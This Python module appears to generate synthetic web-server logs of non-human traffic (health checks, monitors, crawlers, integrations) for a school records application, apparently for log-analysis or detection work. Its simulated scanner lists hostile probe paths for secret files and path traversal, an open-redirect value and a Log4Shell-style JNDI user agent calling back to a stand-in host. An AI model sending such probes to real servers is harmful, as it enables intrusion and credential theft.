"""Non-human traffic: load-balancer health checks, monitors, crawlers, an internet scanner, sanctioned integrations."""
from .client import Client, lognorm
from .staff_days import day_kind
from .tasks import at
from .world import ALB_NODES, SCHOOLS

UPTIME = ["69.162.124.226", "216.144.250.150", "3.12.251.153", "104.131.107.63"]
UPTIME_UA = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
PINGDOM = ["185.180.12.65", "76.164.234.106", "178.255.153.2"]
PINGDOM_UA = "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"
CRAWLERS = [("googlebot", "66.249.66.%d", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
            ("bingbot", "40.77.167.%d", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
                                        "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"),
            ("semrushbot", "185.191.171.%d", "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"),
            ("gptbot", "20.171.207.%d", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
                                        "+https://openai.com/gptbot)")]
SCAN_PATHS = ["/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/index.php", "/.aws/credentials",
              "/actuator/env", "/actuator/health", "/server-status", "/config.json", "/rails/info/properties",
              "/admin/config.php", "/cgi-bin/luci/;stok=/locale", "/owa/auth/logon.aspx", "/.DS_Store", "/backup.zip",
              "/api/v1/../../../../etc/passwd", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
              "/wp-content/plugins/", "/.well-known/security.txt", "/sitemap.xml", "/geoserver/web/",
              "/boaform/admin/formLogin", "/HNAP1/", "/solr/admin/info/system", "/_ignition/health-check",
              "/console/", "/manager/html", "/telescope/requests", "/debug/default/view", "/storage/logs/laravel.log",
              "/users/sign_in?redirect_to=%2F%2Fevil.example", "/assets/../config/database.yml", "/login.action",
              "/api/graphql", "/graphql", "/v2/_catalog", "/.svn/entries", "/info.php", "/test.php"]
SCAN_UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 "
            "Safari/537.36", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
            "${jndi:ldap://${hostName}.d4s7k2.oast.example/a}"]
INTEGRATIONS = [  # key, uid, name, addresses, user agent
    ("transcriptx", 9901, "svc.transcriptx", ["52.20.118.34", "54.164.77.201"],
     "TranscriptX-Connector/3.4.1 (+https://transcriptx.example/connector)"),
    ("rosterlink", 9902, "svc.rosterlink", ["20.84.213.17"], "RosterLink-Sync/2.9 python-httpx/0.27.2"),
    ("collegeplan", 9903, "svc.collegeplan", ["35.196.41.88"], "Faraday v2.12.2"),
]


def alb(E, rng, t0, t1, L):
    for k, node in enumerate(ALB_NODES):
        c = Client(E, rng, "ELB-HealthChecker/2.0", node, xff="-")
        c.xff = None
        t = t0 + k * 4.9 + rng.uniform(0, 1)
        while t < t1:
            c.req(t, "GET", "/nginx-health", "alb", 200, 2, dur=0.0, ref=None, nu=None)
            t += 15.0 + rng.uniform(-0.02, 0.02)
        L.source(node, "alb_health_check", note="nginx-only health check (ALB node)")


def monitors(E, rng, t0, t1, L):
    t = t0 + rng.uniform(0, 60)
    cs = [Client(E, rng, UPTIME_UA, ip) for ip in UPTIME]
    while t < t1:
        cs[int(t // 60) % len(cs)].req(t, "HEAD", "/up", "health", 200, 0, ref=None)
        t += 60.0 + rng.uniform(-0.4, 0.4)
    for ip in UPTIME:
        L.source(ip, "uptime_monitor")
    t = t0 + rng.uniform(0, 300)
    ps = [Client(E, rng, PINGDOM_UA, ip, proto="HTTP/1.1") for ip in PINGDOM]
    while t < t1:
        ps[rng.randrange(len(ps))].req(t, "GET", "/users/sign_in", "page", 200, ref=None)
        t += 300.0 + rng.uniform(-3, 3)
    for ip in PINGDOM:
        L.source(ip, "synthetic_monitor")


def crawlers(E, rng, t0, t1, L, w):
    for name, pat, ua in CRAWLERS:
        n = int((t1 - t0) / 86400 * rng.randint(4, 14))
        for _ in range(n):
            ip = pat % rng.randint(2, 250)
            c = Client(E, rng, ua, ip, proto="HTTP/1.1")
            t = rng.uniform(t0, t1 - 600)
            r = rng.random()
            if r < 0.3:
                c.req(t, "GET", "/robots.txt", "static", 200, 87, ref=None, nu=None)
            elif r < 0.6:
                t = c.req(t, "GET", "/", "authfail", 302, 0, ref=None, x={"loc": "/users/sign_in"})
                c.req(t + rng.uniform(1, 30), "GET", "/users/sign_in", "page", 200, ref=None)
            elif r < 0.85:
                c.req(t, "GET", "/users/sign_in", "page", 200, ref=None)
            else:
                pid = rng.choice(list(w.pupils))
                c.req(t, "GET", "/students/%d" % pid, "authfail", 302, 0, ref=None, x={"loc": "/users/sign_in"})
            L.source(ip, name)


def scanner(E, rng, t0, t1, L, days):
    ip = "%d.%d.%d.%d" % (rng.choice([(167, 94, 138), (45, 156, 129), (193, 41, 206)]) + (rng.randint(2, 250),))
    c = Client(E, rng, SCAN_UAS[0], ip, proto="HTTP/1.1")
    for d in range(days):
        t = at(d, rng.choice([2, 3, 4, 14, 23]), rng.uniform(0, 50))
        paths = rng.sample(SCAN_PATHS, rng.randint(25, len(SCAN_PATHS)))
        for p in paths:
            c.ua = rng.choice(SCAN_UAS)
            if p.startswith("/.") or p.endswith((".php", "/")) and ".php" in p:
                c.req(t, "GET", p, "nginx", 403 if p.startswith("/.") else 404, 153, ref=None, nu=None)
            elif p.startswith("/users/sign_in"):
                c.req(t, "GET", p, "page", 200, ref=None)
            else:
                c.req(t, "GET", p, "routing", 404, ref=None)
            t += lognorm(rng, 0.9, 0.7)
    L.source(ip, "internet_scanner", note="vulnerability scanner probing common paths")


def integrations(E, w, rng, days, L):
    for key, uid, name, ips, ua in INTEGRATIONS:
        cs = [Client(E, rng, ua, ip, proto="HTTP/1.1") for ip in ips]
        for c in cs:
            c.uid = uid
            L.source(c.ip, "integration_" + key, account=str(uid))
        L.service(str(uid), name, key, ips, ua)
        for d in range(days):
            if key == "transcriptx":
                if day_kind(d) == "weekend":
                    continue
                t = at(d, 6, rng.uniform(0, 5))
                while t < at(d, 20):
                    c = rng.choice(cs)
                    t = c.req(t, "GET", "/api/v1/transcript_requests?status=ready", "api")
                    for _ in range(rng.choice([0, 0, 0, 1, 1, 2, 3])):
                        r = rng.randint(8100, 9899)
                        t = c.req(t + 0.3, "GET", "/api/v1/transcript_requests/%d/document.pdf" % r, "api",
                                  size=int(lognorm(rng, 80000, 0.3)), dur=lognorm(rng, 1.7, 0.3))
                        t = c.req(t + 0.2, "POST", "/api/v1/transcript_requests/%d/ack" % r, "api", 200, 41,
                                  x={"body": {"delivered_at": "now", "transcript_request": {"delivered_at": "now"}}})
                    t = at(d, 6) + (int((t - at(d, 6)) // 900) + 1) * 900 + rng.uniform(0, 20)
            elif key == "rosterlink":
                t = at(d, 3, 10 + rng.uniform(0, 3))
                for school in SCHOOLS:
                    for page in range(1, rng.randint(7, 10)):
                        t = cs[0].req(t, "GET", "/api/v1/rosters?school=%s&page=%d&per_page=200" % (school, page),
                                      "api", size=int(lognorm(rng, 90000, 0.2))) + rng.uniform(0.2, 0.6)
            else:
                t = at(d, 1, 30 + rng.uniform(0, 4))
                for school in SCHOOLS:
                    for page in range(1, rng.randint(3, 5)):
                        t = cs[0].req(t, "GET", "/api/v1/students?grade=12&school=%s&page=%d" % (school, page),
                                      "api", size=int(lognorm(rng, 120000, 0.2))) + rng.uniform(1, 3)


def run(E, w, rng, days, t0, t1, L):
    alb(E, rng, t0, t1, L)
    monitors(E, rng, t0, t1, L)
    crawlers(E, rng, t0, t1, L, w)
    scanner(E, rng, t0, t1, L, days)
    integrations(E, w, rng, days, L)
